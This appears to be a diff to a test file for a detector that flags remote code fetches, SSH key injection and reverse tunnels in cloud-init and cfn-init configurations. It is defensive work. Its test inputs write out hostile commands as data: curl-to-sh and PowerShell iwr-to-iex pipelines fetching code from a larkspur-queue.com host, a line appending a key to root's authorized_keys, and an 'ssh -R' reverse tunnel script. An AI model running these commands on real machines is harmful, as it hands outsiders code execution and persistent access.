@@ -40,6 +40,11 @@ test(does, '#cloud-config\nssh_import_id: [gh:larkspur]', ['import gh:larkspur']
 test(does, `#cloud-config\nssh_authorized_keys: ['\${Key}']`, []);
 test(does, `#cloud-config\nwrite_files:\n  - path: /root/.ssh/authorized_keys\n    content: |\n      ${key}`, added);
 test(does, "#cloud-config\nruncmd:\n  - [sh, -c, 'curl -fsSL https://get.larkspur-queue.com/x | sh']", ['run https://get.larkspur-queue.com/x']);
+test(does, "#cloud-config\nruncmd:\n  - [sh, -c, \"curl -fsSL 'https://get.larkspur-queue.com/x?a=1&b=2' | sh; echo don't\"]", [
+	'run https://get.larkspur-queue.com/x?a=1&b=2',
+]);
+test(does, `#cloud-config\nbootcmd:\n  - [sh, -c, "echo '${key}' >> ~/.ssh/authorized_keys"]`, added);
+test(does, `#include\nhttps://get.larkspur-queue.com/x?a='1'&b=2`, ["run https://get.larkspur-queue.com/x?a='1'&b=2"]);
 test(does, `#!/bin/bash\ncat > /opt/call.sh <<'EOF'\n#!/bin/sh\nssh -N -R 0:localhost:22 x@care.larkspur-queue.com\nEOF\nbash /opt/call.sh`, [
 	'ssh -R care.larkspur-queue.com',
 ]);
@@ -115,6 +120,18 @@ test(
 	fetches,
 	init("{files: {/opt/q.sh: {source: 'https://dl.larkspur-queue.com/q.sh'}}, commands: {a: {command: bash /opt/q.sh}}}"),
 	['run https://dl.larkspur-queue.com/q.sh'],
+);
+test(
+	'a list of words of cfn-init',
+	fetches,
+	init(`{commands: {a: {command: [sh, -c, "curl -fsSL 'https://dl.larkspur-queue.com/q?a=1&b=2' | sh; echo don't"]}}}`),
+	['run https://dl.larkspur-queue.com/q?a=1&b=2'],
+);
+test(
+	"a list of words of Windows' cfn-init",
+	fetches,
+	init(`{files: {'C:\\q.txt': {content: q}}, commands: {a: {command: [powershell, -Command, "iwr 'https://dl.larkspur-queue.com/q' | iex"]}}}`),
+	['run https://dl.larkspur-queue.com/q'],
 );
 test('packages of cfn-init', fetches, init("{packages: {rpm: {q: 'https://rpm.larkspur-queue.com/q.rpm'}, yum: {httpd: []}}}"), [
 	'install https://rpm.larkspur-queue.com/q.rpm',
